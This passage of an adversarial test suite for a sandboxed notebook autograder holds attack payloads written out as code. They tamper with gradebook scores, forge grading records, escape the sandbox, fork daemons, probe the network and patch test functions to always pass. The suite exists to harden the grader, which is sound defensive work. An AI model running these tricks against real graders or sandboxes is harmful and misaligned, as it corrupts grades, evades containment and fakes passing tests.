                _cell["source"] = "pass"
        with open(_path, "w", encoding="utf-8") as _fh:
            json.dump(_nb, _fh)
    except Exception as _exc:
        print(_kind, type(_exc).__name__)
try:
    with open(os.path.join(_C, "nbgrader_config.py"), "a", encoding="utf-8") as _fh:
        _fh.write("\\nc.Execute.timeout = 1\\nc.ClearSolutions.code_stub = {'python': 'pass'}\\n")
except Exception as _exc:
    print("config", type(_exc).__name__)
try:
    with open(os.path.join(_C, "evil.py"), "w", encoding="utf-8") as _fh:
        _fh.write("raise SystemExit('pwned')\\n")
except Exception as _exc:
    print("evil", type(_exc).__name__)
"""

FORGE_RECORDS = """\
import hashlib
import json
import os

_C = @COURSE@
_MASTER = os.path.join(_C, "source", "01_gradient", "01_gradient.ipynb")


def _sha(*paths):
    h = hashlib.sha256()
    for p in paths:
        h.update(os.path.basename(p).encode())
        with open(p, "rb") as fh:
            h.update(fh.read())
    return h.hexdigest()


for _student, _status in (("honest-wrong-diff", "graded"), ("honest-correct", "missing"),
                          ("atk-forge_records", "graded")):
    _sub = os.path.join(_C, "submitted", _student, "01_gradient", "01_gradient.ipynb")
    try:
        _record = {"student": _student, "assignment": "01_gradient", "status": _status,
                   "notes": [], "inputs": _sha(_sub, _MASTER)}
        _folder = os.path.join(_C, ".grading", "status", _student)
        os.makedirs(_folder, exist_ok=True)
        with open(os.path.join(_folder, "01_gradient.json"), "w", encoding="utf-8") as _fh:
            json.dump(_record, _fh)
    except Exception as _exc:
        print("forge:", type(_exc).__name__)
"""

CANARY = """\
import atexit
import os


def _tamper():
    _D = @CANARY@
    for _action in (
        lambda: open(os.path.join(_D, "canary-1.txt"), "a").write("tampered\\n"),
        lambda: os.remove(os.path.join(_D, "canary-2.txt")),
        lambda: open(os.path.join(_D, "new-file.txt"), "w").write("hello\\n"),
        lambda: os.chmod(os.path.join(_D, "canary-3.txt"), 0o777),
        lambda: open(@TMPESC@, "w").write("escaped\\n"),
        lambda: open(@HOMEESC@, "w").write("escaped\\n"),
        lambda: open("/dev/shm/" + os.path.basename(@TMPESC@), "w").write("escaped\\n"),
        lambda: open("/var/tmp/" + os.path.basename(@TMPESC@), "w").write("escaped\\n"),
    ):
        try:
            _action()
        except Exception as _exc:
            print("canary:", type(_exc).__name__)


_tamper()
atexit.register(_tamper)
"""

PROBE_WRITABLE = """\
import os
import sys

import common

# host folders only: $HOME is left out (a sandbox may hold a private, writable folder there)
_targets = [@COURSE@, os.path.join(@COURSE@, "source"), os.path.dirname(common.__file__),
            sys.prefix, @CANARY@]
_writable = [t for t in _targets if os.path.exists(t) and os.access(t, os.W_OK)]
print("writable:", _writable)
"""

DETACHED = """\
import subprocess
import sys

_proc = subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(600)", @MARKER@],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL, close_fds=True)
"""

DAEMON = """\
import os
import sys

_TAMPER = '''
import os, sqlite3, sys, time
time.sleep(5)
end = time.time() + 300
while time.time() < end:
    try:
        with open(os.path.join(sys.argv[1], "canary-1.txt"), "a") as fh:
            fh.write("daemon was here\\\\n")
    except Exception:
        pass
    try:
        con = sqlite3.connect(os.path.join(sys.argv[2], "gradebook.db"), timeout=1)
        con.execute("update grade set manual_score = 999")
        con.commit()
        con.close()
    except Exception:
        pass
    time.sleep(2)
'''

_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _TAMPER, @CANARY@, @COURSE@,
                                      @MARKER@])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
"""

NETWORK = """\
import socket

_reached = []
for _host, _port in (("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("1.1.1.1", 443)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _s:
            _s.sendall(b"kadv " + @MARKER@.encode())
        _reached.append(_host)
    except OSError as _exc:
        print("connect", _host, type(_exc).__name__)
try:
    socket.getaddrinfo("example.com", 80)
    _reached.append("dns")
except OSError:
    pass
"""

NETWORK_AT_CALL = """\
import socket

_tried = []


def numerical_diff(f, x):
    h = 1e-4
    if not _tried:
        _tried.append(1)
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
                s.sendall(b"kadv call")
            _tried.append("reached")
        except OSError:
            pass
    if "reached" in _tried:
        return (f(x + h) - f(x - h)) / (2 * h)
    return (f(x + h) - f(x)) / h
"""


def _if(flag: str) -> str:
    """Score encoding: switch to the correct numerical_diff when ``flag`` is true."""
    return f"if {flag}:\n" + "".join(f"    {line}\n" for line in GOOD_DIFF.splitlines())


# -- broken and odd files -----------------------------------------------------------------------
def _no_ids(ctx):
    nb = nb_with({})
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.pop("id", None)
    return json.dumps(nb, indent=1, ensure_ascii=False)


def _duplicate_ids(ctx):
    nb = nb_with({})
    first = nb.cells[_find(nb, "numerical_diff")].id
    nb.cells[_find(nb, "numerical_diff_test")].id = first
    nb.cells[_find(nb, "numerical_gradient")].id = first
    return json.dumps(nb, indent=1, ensure_ascii=False)


def _extra_notebook(ctx):
    evil = nb_with({"numerical_diff": fill(CANARY, ctx) + "\n" + GOOD_DIFF})
    return {f"{A1}.ipynb": nb_with({}), "scratch.ipynb": evil, "notes.txt": "メモ\n"}


def _symlink_master(ctx):
    return {f"{A1}.ipynb": Symlink(str(ctx.course / "source" / A1 / f"{A1}.ipynb")),
            "source-link": Symlink(str(ctx.course / "source"))}


def _net_cheat(ctx):
    nb = nb_with({"simpleNet": fill(NUMPY_PATCHED + "\n" + CHECK_CLOSE_REPLACED + "\n"
                                    + TESTING_INTERNALS, ctx) + "\n" + _w_net()}, A3)
    return {f"{A3}.ipynb": nb}


def _net_guard(ctx):
    nb = nb_with({"simpleNet": fill(GUARD_POISONED + "\n" + PRE_RUN_CELL, ctx) + "\n"
                  + _w_net()}, A3)
    return {f"{A3}.ipynb": nb}


def _unicode(ctx):
    cells = {"numerical_diff": "# 中心差分で微分する ✓ — ünïcödé\n" + GOOD_DIFF
             + 'print("こんにちは 🌸")\n'}
    return {f"{A1}.ipynb": nb_with(cells)}


def _unicode_filename(ctx):
    return {f"{A1}（コピー）.ipynb": nb_with({}), "メモ ✓.txt": "日本語のメモ\n"}


# -- against the judge: tests run in another process (issue 13) -------------------------------
# Each was a working attack (or would be) while tests ran in the student's kernel; now the kernel
# only serves the judge's calls. A hole shows as a score above the wrong answer's.
DISPLAYHOOK_CREDIT = """\
import sys

from IPython import get_ipython

_shell = get_ipython()
_serve = globals().get("__kobai_serve__")


def numerical_diff(f, x):
    for hook in (_shell.displayhook, sys.displayhook):
        try:
            hook(1000.0)  # an execute_result in the test cell: nbgrader partial credit
        except Exception:
            pass
    h = 1e-4
    return (f(x + h) - f(x)) / h


def __kobai_serve__():
    _shell.displayhook(1000.0)
    if _serve is not None:
        _serve()
    return 1000.0
"""

STUDENT_IMPORT = """\
import builtins

_real_import = builtins.__import__


def _true(*args, **kwargs):
    return True


def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    for attr in ("check_close", "check_true", "check_shape", "isclose", "allclose", "call",
                 "verdict", "serve", "request"):
        if hasattr(module, attr):
            try:
                setattr(module, attr, _true)
            except Exception:
                pass
    return module


builtins.__import__ = _import
"""

# Score-encoded: if any test source or expected value shows up in the kernel, answer correctly.
SOURCE_SPY = """\
import gc
import sys
import threading
import time

from IPython import get_ipython

_KEYS = ("_".join(["hidden", "cases"]), "_".join(["diff", "mistakes"]))  # not in our own code
_seen = []


def _look(value):
    if isinstance(value, str) and any(key in value for key in _KEYS):
        _seen.append(value[:80])
    elif isinstance(value, float) and value in (-13.5, -19.0):  # hidden expected values
        _seen.append(value)


def _look_code(code):
    for const in getattr(code, "co_consts", ()):
        _look(const)
    for name in getattr(code, "co_names", ()):
        _look(name)


def _hook(event, args):
    if event in ("exec", "compile", "builtins.input"):
        for arg in args:
            try:
                _look(arg)
                _look_code(arg)
            except Exception:
                pass


sys.addaudithook(_hook)


def _poll():
    while True:
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                if frame.f_code.co_filename != _MINE:  # not the spy's own frames
                    _look_code(frame.f_code)
                    for value in list(frame.f_locals.values()):
                        _look(value)
                frame = frame.f_back
        time.sleep(0.005)


_MINE = _look.__code__.co_filename
threading.Thread(target=_poll, daemon=True).start()
threading.Thread(target=exec, args=("import time\\nwhile True:\\n    time.sleep(0.05)\\n",),
                 daemon=True).start()
_plain = get_ipython().display_formatter.formatters["text/plain"]
_plain.for_type(str, lambda value, printer, cycle: (_look(value), printer.text(repr(value))))
_plain.for_type(float, lambda value, printer, cycle: (_look(value), printer.text(repr(value))))


def numerical_diff(f, x):
    for obj in gc.get_objects():
        if type(obj) is dict:
            for value in list(obj.values()):
                _look(value)
    h = 1e-4
    if _seen:
        return (f(x + h) - f(x - h)) / (2 * h)
    return (f(x + h) - f(x)) / h
"""

STDLIB_PATCHED = """\
import hmac
import json
import socket
import struct

hmac.compare_digest = lambda a, b: True
_dumps = json.dumps


def _forging_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("ok") is False:
        obj = {**obj, "ok": True, "e": None}
    return _dumps(obj, *args, **kwargs)


json.dumps = _forging_dumps
_sendall = socket.socket.sendall
struct.pack = struct.pack
"""

NUMPY_DISPATCH = """\
import ctypes
import gc

import numpy as np


def _yes(*args, **kwargs):
    return np.True_


for _module in (np, np._core.numeric, np._core.multiarray):
    for _name in ("isclose", "allclose", "array_equal", "isfinite", "shares_memory"):
        if hasattr(_module, _name):
            setattr(_module, _name, _yes)
# C types' class dicts: every ndarray.all() says True
gc.get_referents(np.ndarray.__dict__)[0]["all"] = lambda self, *args, **kwargs: np.True_
ctypes.pythonapi.PyType_Modified(ctypes.py_object(np.ndarray))
"""

CLOSURES_CONTEXTLIB = """\
import contextlib

import common.testing as _t


def _noop(*args, **kwargs):
    return None


for _f in (_t.check_close, _t.check_true, _t.check_shape, _t._fail, _t._close):
    _f.__code__ = _noop.__code__
    for _cell in _f.__closure__ or ():
        _cell.cell_contents = _noop
contextlib._GeneratorContextManager.__exit__ = lambda self, *exc: True
"""

# Score-encoded: anything read from the judge's side (besides calling f) -> the correct answer.
JUDGE_INTROSPECTION = """\
def numerical_diff(f, x):
    leaked = []
    for name in ("__globals__", "__closure__", "__code__", "__defaults__", "__self__"):
        try:
            leaked.append(getattr(f, name))
        except Exception:
            pass
    try:
        agent = object.__getattribute__(f, "_wire_link")
        for name in ("__globals__", "__code__", "__class__", "__dict__", "func_globals"):
            try:
                leaked.append(agent.link.request("getattr", h=f, n=name))
            except Exception:
                pass
        for op, fields in (("get", {"names": ("expected", "exact", "hidden_cases")}),
                           ("setattr", {"h": f, "n": "x", "v": 1})):
            try:
                leaked.append(agent.link.request(op, **fields))
            except Exception:
                pass
    except Exception:
        pass
    h = 1e-4
    if leaked:
        return (f(x + h) - f(x - h)) / (2 * h)
    return (f(x + h) - f(x)) / h
"""

# A forged answer frame (valid JSON, impossible buffer list) then garbage: the judge stops
# reading this kernel; every test from here on fails.
FORGED_FRAMES = """\
import json
import struct


def numerical_diff(f, x):
    sock = object.__getattribute__(f, "_wire_link").link.sock
    header = json.dumps({"k": "a", "ok": True, "v": {"t": "f", "v": (0.2).hex()},
                         "u": [[999, []]], "bufs": [10**12]}).encode()
    sock.sendall(struct.pack(">I", len(header)) + header + b"\\xff" * 1000)
    h = 1e-4
    return (f(x + h) - f(x)) / h
"""

HOSTILE_VALUES = """\
import numpy as np


class _Liar(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__

    def __array__(self, *args, **kwargs):
        return np.array(0.2)

    def __float__(self):
        return 0.2


def numerical_diff(f, x):
    h = 1e-4
    return _Liar((f(x + h) - f(x)) / h)
"""

HUGE_ARRAY = """\
import numpy as np


def numerical_diff(f, x):
    return np.zeros(10_000_000)  # 80 MB: more than one message may carry (not sent: an error)
"""

CALLBACK_RECURSION = """\
def numerical_diff(f, x):
    try:
        f(numerical_diff)  # the judge's f on the student's function: not a number
    except Exception:
        pass

    def again(t):
        return f(t) + again(t)  # a callback per level, until RecursionError

    return again(x)
"""

RETURNS_JUDGE_OBJECT = """\
def numerical_diff(f, x):
    return f
"""


ATTACK_ANY = ("graded", "failed: ")

CASES: list[Case] = [
    # -- the graded notebook is rebuilt from the master ----------------------------------------
    Case("tests_pass", notebook(_tests_pass)),
    # the release's cell ids survive: the answers are still found (by cell id), the tests restored
    Case("metadata_stripped_all", notebook(_metadata_stripped_all)),
    Case("metadata_stripped_tests", notebook(_metadata_stripped_tests)),
    Case("tests_deleted", notebook(_tests_deleted)),
    Case("test_duplicated", notebook(_test_duplicated)),
    Case("test_duplicated_pass", notebook(_test_duplicated_pass)),
    Case("solution_duplicated", notebook(_solution_duplicated), score=CORRECT, status=ATTACK_ANY),
    Case("points_raised", notebook(_points_raised), checks=frozenset({"gradebook"})),
    Case("test_made_solution", notebook(_test_made_solution), checks=frozenset({"gradebook"})),
    Case("locked_cells_edited", notebook(_locked_cells_edited)),
    Case("added_cells", notebook(_added_cells)),
    Case("kernelspec_changed", notebook(_kernelspec_changed)),
    Case("giant_stored_output", notebook(_giant_stored_output), score=CORRECT),
    # -- tests cannot be fooled from inside the kernel -----------------------------------------
    Case("numpy_patched", attack(NUMPY_PATCHED)),
    Case("check_close_replaced", attack(CHECK_CLOSE_REPLACED)),
    Case("testing_internals_patched", attack(TESTING_INTERNALS)),
    # breaking the kernel's own machinery (builtins the agent uses, the cell pipeline that runs
    # the grader's serve request) only stops the kernel from answering the judge: every test of
    # the notebook fails (fail closed), the kernel is stopped at once
    Case("builtins_patched", attack(BUILTINS_PATCHED), score=0.0),
    Case("input_transformer", attack(INPUT_TRANSFORMER), score=0.0),
    Case("ast_transformer", attack(AST_TRANSFORMER), score=0.0),
    Case("custom_exc", attack(CUSTOM_EXC)),
    Case("showtraceback_blanked", attack(SHOWTRACEBACK)),
    Case("clear_output_thread", attack(CLEAR_OUTPUT_THREAD)),
    Case("clear_output_timer", attack(CLEAR_OUTPUT_TIMER)),
    # the tests run in the judge: what the function patches, traces or peeks at in the kernel
    # never reaches them; it scores what the forward difference it returns scores (7)
    Case("patch_at_call_time", attack(body=PATCH_AT_CALL_TIME)),
    Case("settrace", attack(body=SETTRACE)),
    Case("frame_peek", attack(body=FRAME_PEEK)),
    Case("eq_always_true", attack(body=EQ_ALWAYS_TRUE)),
    Case("fake_output", attack(body=FAKE_OUTPUT)),
    Case("pre_run_cell_event", attack(PRE_RUN_CELL)),
    # as above: the serve request never reaches the agent -> every test fails
    Case("hooks_equal_to_anything", attack(EQUAL_TO_ANYTHING_HOOKS), score=0.0),
    Case("run_cell_replaced", attack(RUN_CELL_REPLACED), score=0.0),
    Case("do_execute_replaced", attack(DO_EXECUTE_REPLACED), score=0.0),
    Case("guard_hijack", attack(GUARD_HIJACK)),
    Case("guard_poisoned", attack(GUARD_POISONED)),
    Case("net_cheat", _net_cheat, assignment=A3, score=W_NET_SCORE),
    Case("net_guard_poisoned", _net_guard, assignment=A3, score=W_NET_SCORE),
    # -- exits and crashes ---------------------------------------------------------------------
    Case("sys_exit_top", attack(after="import sys\nsys.exit(0)\n")),
    Case("sys_exit_in_function", attack(body=SYS_EXIT_IN_FUNCTION), score=RAISE_SCORE),
    Case("keyboard_interrupt_in_function", attack(body=KEYBOARD_INTERRUPT_IN_FUNCTION),
         score=RAISE_SCORE),
    Case("ipython_exit", attack(after="exit()\n"), status=ATTACK_ANY),
    Case("os_exit_top", attack("import os\nos._exit(0)\n"), score=0.0, status=ATTACK_ANY),
    Case("os_exit_in_last_function", attack(body=GOOD_DIFF, tangent_line=OS_EXIT_IN_LAST),
         score=8.0, status=ATTACK_ANY),
    Case("sigkill_self", attack("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
         score=0.0, status=ATTACK_ANY),
    Case("kill_grader", attack(KILL_GRADER), checks=frozenset({"honest"})),
    # -- resources -----------------------------------------------------------------------------
    Case("infinite_loop", attack("while True:\n    pass\n"), score=0.0, status=ATTACK_ANY,
         slow=True),
    Case("infinite_loop_sigint_ignored", attack(SIGINT_LOOP), score=0.0, status=ATTACK_ANY,
         slow=True),
    Case("hang_in_last_function", attack(body=GOOD_DIFF, tangent_line=HANG_IN_LAST), score=8.0,
         status=ATTACK_ANY, slow=True),
    Case("huge_allocation", attack("import numpy as np\n_big = np.ones(10**10)\n"),
         score=RAISE_SCORE, status=ATTACK_ANY),
    Case("memory_creep", attack(MEMORY_CREEP), status=ATTACK_ANY),
    # the process limit spent, the kernel cannot serve the judge: every test fails
    Case("fork_bomb", attack(FORK_BOMB), score=0.0, status=ATTACK_ANY),
    # 50 MB is over the notebook's output budget: the kernel is ended in that cell (0)
    Case("huge_output_line", attack(HUGE_OUTPUT), score=0.0, status=ATTACK_ANY, note="output"),
    Case("many_outputs", attack(MANY_OUTPUTS), status=ATTACK_ANY),
    Case("big_file", attack(BIG_FILE), status=ATTACK_ANY),
    # writing into the socket folder ends the sandbox at once: every later cell is lost (0)
    Case("fill_ipc_dir", attack(FILL_IPC_DIR, after=_if("_host_disk_fillable")), score=0.0),
    Case("fill_other_dir", attack(FILL_OTHER_DIR, after=_if("_memory_fillable"))),
    # a link or fifo in the socket folder ends the sandbox: every later cell is lost (0)
    Case("ipc_symlink_gradebook", attack(IPC_SYMLINKS.replace(
        "@VICTIM@", 'os.path.join(@COURSE@, "gradebook.db")')), score=0.0, status=ATTACK_ANY,
         checks=frozenset({"gradebook", "honest"})),
    Case("ipc_symlink_classmate", attack(IPC_SYMLINKS.replace("@VICTIM@", (
        'os.path.join(@COURSE@, "submitted", "honest-correct", "01_gradient", '
        '"01_gradient.ipynb")'))), score=0.0, status=ATTACK_ANY,
         checks=frozenset({"tree", "honest"})),
    Case("ipc_fifo_report", attack(IPC_FIFO), score=0.0, status=ATTACK_ANY,
         checks=frozenset({"honest"})),
    Case("ipc_forged_reason", attack(IPC_FORGED_REASON), score=0.0, status=ATTACK_ANY),
    Case("ipc_nested_flood", attack(IPC_NESTED_FLOOD), score=0.0, status=ATTACK_ANY),
    Case("dev_shm_fill", attack(TMPFS_FILL.replace("@FOLDER@", '"/dev/shm"'),
                                after=_if("_host_memory_fillable"))),
    Case("dev_fill", attack(TMPFS_FILL.replace("@FOLDER@", '"/dev"'),
                            after=_if("_host_memory_fillable"))),
    # one output budget per notebook: the kernel is ended in the first answer cell (0)
    *[Case(f"flood_{kind}", attack(code), score=0.0, status=ATTACK_ANY,
           note="output") for kind, code in FLOODS.items()],
    # -- confidentiality: the master, the gradebook, the config, classmates ------------------
    Case("read_master", attack(READ_MASTER, after=STEAL)),
    Case("read_gradebook", attack(READ_GRADEBOOK)),
    Case("read_classmates", attack(READ_CLASSMATES, after=STEAL)),
    Case("list_filesystem", attack(LIST_FILESYSTEM, after=_if("_sees_course"))),
    # -- integrity: grades, files, other students ----------------------------------------------
    Case("write_gradebook", attack(WRITE_GRADEBOOK),
         checks=frozenset({"gradebook", "tree", "honest"})),
    Case("delete_classmate", attack(DELETE_CLASSMATE), checks=frozenset({"tree", "honest"})),
    Case("tamper_course", attack(TAMPER_COURSE), checks=frozenset({"tree", "honest"})),
    Case("forge_records", attack(FORGE_RECORDS), checks=frozenset({"honest"})),
    Case("canary_tamper", attack(CANARY), checks=frozenset({"canary", "escape"})),
    Case("probe_writable", attack(PROBE_WRITABLE, after=_if("_writable"))),
    # -- processes and network -----------------------------------------------------------------
    Case("detached_process", attack(DETACHED)),
    Case("daemon_double_fork", attack(DAEMON), checks=frozenset({"canary", "gradebook"})),
    Case("network", attack(NETWORK, after=_if("_reached")), checks=frozenset({"net"})),
    Case("network_during_test", attack(body=NETWORK_AT_CALL), checks=frozenset({"net"})),
    # -- what was handed in --------------------------------------------------------------------
    Case("invalid_json", lambda ctx: {f"{A1}.ipynb": '{"cells": [ {"cell_type": '}, score=0.0,
         status=("failed: ",)),
    Case("empty_file", lambda ctx: {f"{A1}.ipynb": ""}, score=0.0, status=("failed: ",)),
    Case("not_utf8", lambda ctx: {f"{A1}.ipynb": b"\xff\xfe{\x00\x81garbage"}, score=0.0,
         status=("failed: ",)),
    Case("json_not_notebook", lambda ctx: {f"{A1}.ipynb": '{"hello": [1, 2]}'}, score=0.0,
         status=("failed: ",)),
    Case("missing_cell_ids", lambda ctx: {f"{A1}.ipynb": _no_ids(ctx)}, score=CORRECT,
         note="cell ids added"),
    Case("duplicate_cell_ids", lambda ctx: {f"{A1}.ipynb": _duplicate_ids(ctx)}, score=CORRECT),
    Case("renamed", lambda ctx: {f"{A1}-Copy1.ipynb": nb_with({})}, score=CORRECT,
         note="renamed"),
    Case("extra_notebook", _extra_notebook, score=CORRECT, checks=frozenset({"canary"})),
    Case("only_py", lambda ctx: {"answer.py": GOOD_DIFF}, score=0.0,
         status=("unknown notebook: ",)),
    Case("symlink_to_master", _symlink_master, score=0.0,
         status=("failed: ", "unknown notebook: ", "missing")),
    # -- against the judge (issue 13): each scores what its wrong answer scores ----------------
    Case("displayhook_partial_credit", attack(body=DISPLAYHOOK_CREDIT)),
    Case("student_import", attack(STUDENT_IMPORT)),
    Case("source_spy", attack(body=SOURCE_SPY)),
    Case("stdlib_patched", attack(STDLIB_PATCHED)),
    Case("numpy_dispatch_and_type_dict", attack(NUMPY_DISPATCH)),
    Case("closures_contextlib", attack(CLOSURES_CONTEXTLIB)),
    Case("judge_introspection", attack(body=JUDGE_INTROSPECTION)),
    Case("forged_frames", attack(body=FORGED_FRAMES), score=0.0),
    Case("hostile_values", attack(body=HOSTILE_VALUES)),
    Case("huge_array", attack(body=HUGE_ARRAY), score=RAISE_SCORE),
    Case("callback_recursion", attack(body=CALLBACK_RECURSION), score=RAISE_SCORE),
    Case("returns_judge_object", attack(body=RETURNS_JUDGE_OBJECT), score=RAISE_SCORE),
    Case("unicode_student", _unicode, score=CORRECT, student="学生-ユニコード①"),
    Case("unicode_filename", _unicode_filename, score=CORRECT, note="renamed"),
]

# Honest students: graded in both runs, their results must be identical. "a-honest-first" sorts
# before every attacker (graded first: later attacks could only spoil what is already written),
# the others after.
HONEST: dict[str, tuple[str, Callable[[], Files], float]] = {
    "a-honest-first": (A1, lambda: {f"{A1}.ipynb": nb_with(
        {"numerical_diff": f"# {SECRET_SUBMISSION}\n" + GOOD_DIFF})}, CORRECT),
    "honest-correct": (A1, lambda: {f"{A1}.ipynb": nb_with(
        {"numerical_diff": f"# {SECRET_SUBMISSION}\n" + GOOD_DIFF})}, CORRECT),
    "honest-wrong-diff": (A1, lambda: {f"{A1}.ipynb": nb_with({"numerical_diff": W_DIFF})},
                          W_SCORE),
    "honest-untouched": (A1, lambda: {f"{A1}.ipynb": read("release", A1)}, 0.0),
    "honest-net-correct": (A3, lambda: {f"{A3}.ipynb": nb_with({}, A3)}, CORRECT),
    "honest-net-wrong": (A3, lambda: {f"{A3}.ipynb": nb_with({"simpleNet": _w_net()}, A3)},
                         W_NET_SCORE),
}


def write_files(folder: Path, files: Files) -> None:
    folder.mkdir(parents=True)
    for filename, content in files.items():
        path = folder / filename
        if isinstance(content, Symlink):
            path.symlink_to(content.target)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, dict):  # a notebook: written as is (no validation, no repair)
            path.write_text(json.dumps(content, indent=1, ensure_ascii=False), encoding="utf-8")
        else:
            path.write_text(str(content), encoding="utf-8")
